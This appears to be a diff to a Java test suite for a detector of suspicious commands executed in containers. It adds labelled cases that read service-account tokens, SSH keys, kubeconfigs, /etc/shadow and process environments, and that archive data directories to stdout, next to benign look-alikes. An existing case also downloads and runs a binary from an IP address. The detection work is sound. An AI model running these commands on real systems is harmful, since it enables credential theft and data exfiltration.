@@ -98,6 +98,26 @@ class ExecSuspiciousCommandTest {
                         new String[] {"cat", "/var/run/secrets/azure/tokens/azure-identity-token"}),
                 Arguments.of(
                         Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "cat $AZURE_FEDERATED_TOKEN_FILE"}),
+                // any other projected token, and the directory as a whole
+                Arguments.of(
+                        Indicator.SERVICE_ACCOUNT_TOKEN,
+                        new String[] {"cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"}),
+                Arguments.of(
+                        Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"cat", "/var/run/secrets/tokens/vault-token"}),
+                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"find", "/var/run/secrets/", "-type", "f"}),
+                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "ls -laR /run/secrets"}),
+                // credential files: keys, kubeconfigs, password hashes, other processes' environment
+                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"cat", "/root/.ssh/id_rsa"}),
+                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"sh", "-c", "cat ~/.ssh/authorized_keys"}),
+                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"sh", "-c", "cat $HOME/.kube/config"}),
+                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"ls", "-la", "/home/app/.ssh"}),
+                Arguments.of(Indicator.PASSWORD_HASHES, new String[] {"cat", "/etc/shadow"}),
+                Arguments.of(Indicator.PASSWORD_HASHES, new String[] {"sh", "-c", "grep root /etc/shadow"}),
+                Arguments.of(Indicator.PROCESS_ENVIRONMENT, new String[] {"cat", "/proc/1/environ"}),
+                Arguments.of(
+                        Indicator.PROCESS_ENVIRONMENT,
+                        new String[] {"sh", "-c", "cat /proc/*/environ | tr '\\0' '\\n' | grep -i pass"}),
+                Arguments.of(Indicator.PROCESS_ENVIRONMENT, new String[] {"sh", "-c", "strings /proc/self/environ"}),
                 // the instance metadata service and the Azure wireserver
                 Arguments.of(Indicator.INSTANCE_METADATA, new String[] {
                     "curl",
@@ -157,6 +177,12 @@ class ExecSuspiciousCommandTest {
                 Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {
                     "sh", "-c", "curl -o /tmp/kd http://203.0.113.7/kdevtmpfsi; chmod 755 /tmp/kd; /tmp/kd"
                 }),
+                // archive to stdout: kubectl cp out of the pod, and its hand-written forms
+                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "cf", "-", "/var/lib/postgresql/data"}),
+                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "-czf", "-", "/app/config"}),
+                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "czv", "/srv/uploads"}),
+                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "-c", "-f", "-", "/data"}),
+                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"sh", "-c", "tar cf - /data | base64 -w0"}),
                 // decode and run
                 Arguments.of(
                         Indicator.ENCODED_COMMAND,
@@ -198,7 +224,17 @@ class ExecSuspiciousCommandTest {
                 Arguments.of((Object) new String[] {"ping", "-c", "1", "169.254.169.25"}),
                 Arguments.of((Object) new String[] {"psql", "-h", "db", "-U", "app", "-c", "select 1"}),
                 Arguments.of((Object) new String[] {"python3", "-c", "print(1)"}),
-                Arguments.of((Object) new String[] {"sh", "-c", "base64 -d /tmp/cert.b64 > /tmp/cert.pem"}));
+                Arguments.of((Object) new String[] {"sh", "-c", "base64 -d /tmp/cert.b64 > /tmp/cert.pem"}),
+                // look-alikes of the credential files and archives
+                Arguments.of((Object) new String[] {"cat", "/etc/ssh/sshd_config"}),
+                Arguments.of((Object) new String[] {"cat", "/etc/passwd"}),
+                Arguments.of((Object) new String[] {"ls", "/app/.sshd-keys.md"}),
+                Arguments.of((Object) new String[] {"cat", "/proc/1/status"}),
+                Arguments.of((Object) new String[] {"tar", "-xmf", "-", "-C", "/tmp"}),
+                Arguments.of((Object) new String[] {"tar", "xzf", "/tmp/release.tgz", "-C", "/app"}),
+                Arguments.of((Object) new String[] {"tar", "czf", "/backup/data.tgz", "/data"}),
+                Arguments.of((Object) new String[] {"tar", "--version"}),
+                Arguments.of((Object) new String[] {"tar", "-tvf", "/tmp/a.tar"}));
     }
 
     @ParameterizedTest
